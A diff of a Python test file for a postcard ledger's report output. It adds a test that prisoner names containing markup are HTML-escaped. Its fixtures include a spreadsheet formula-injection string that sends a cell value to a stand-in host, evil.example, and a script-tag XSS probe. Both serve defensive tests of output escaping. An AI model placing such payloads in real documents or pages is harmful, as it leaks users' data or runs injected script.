@@ -13,8 +13,9 @@ from conftest import run
 from postcards.codes import new_code
 from postcards.errors import UsageError
 from postcards.ledger.book import Ledger
-from postcards.ledger.coverage import Directory, build_report, write_report
+from postcards.ledger.coverage import Directory, build_report
 from postcards.ledger.model import LedgerCard
+from postcards.ledger.report_files import write_report
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 AT = "2025-03-01T09:30:00Z"
@@ -154,8 +155,21 @@ def test_html_is_one_self_contained_file(ledger, tmp_path) -> None:
     page = path.read_text(encoding="utf-8")
     assert page.count("<svg") == 2
     assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page)
-    assert "=HYPERLINK(&quot;http://evil" in page
+    assert "=HYPERLINK(&#34;http://evil" in page and 'HYPERLINK("' not in page
     assert "3 of 5 prisoners" not in page and "2 of 5 prisoners have had a card sent" in page
+
+
+def test_html_escapes_a_prisoner_name_that_is_markup(tmp_path) -> None:
+    rng = random.Random(9)
+    script = '<script>alert("x")</script>'
+    with Ledger.open(tmp_path / "ledger.db") as ledger:
+        ledger.record_generated([_card(rng, ("S1", "<b>Anna</b>"), ("P1", script))], at=AT)
+        report = build_report(ledger, "spring", Directory({"S1": "<i>EP</i>"}, {"P2": script}))
+        [path] = write_report(report, tmp_path / "r.html")
+    page = path.read_text(encoding="utf-8")
+    assert "<script" not in page and "<b>" not in page and "<i>" not in page
+    assert page.count("&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") == 2  # P1's and P2's
+    assert "&lt;b&gt;Anna&lt;/b&gt;" in page and "&lt;i&gt;EP&lt;/i&gt;" in page
 
 
 def test_unknown_format_is_a_usage_error(ledger, tmp_path) -> None:
